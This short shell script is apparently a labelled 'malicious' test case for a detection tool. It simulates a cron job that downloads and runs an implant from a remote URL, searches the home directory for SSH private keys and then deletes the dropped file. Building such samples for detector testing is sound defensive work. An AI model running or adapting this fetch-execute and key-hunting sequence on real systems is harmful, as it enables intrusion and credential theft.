#!/bin/sh
# malicious: a cron shell running a downloaded payload searches for ssh keys (find -name id_rsa, grep BEGIN PRIVATE)
. "$(dirname "$0")/../../lib.sh"
$B/cron "curl -s -o /tmp/.c $URL/implant && chmod +x /tmp/.c && /tmp/.c; find $H -name id_rsa -o -name id_ed25519; grep -rl 'BEGIN OPENSSH PRIVATE' $H; rm -f /tmp/.c"
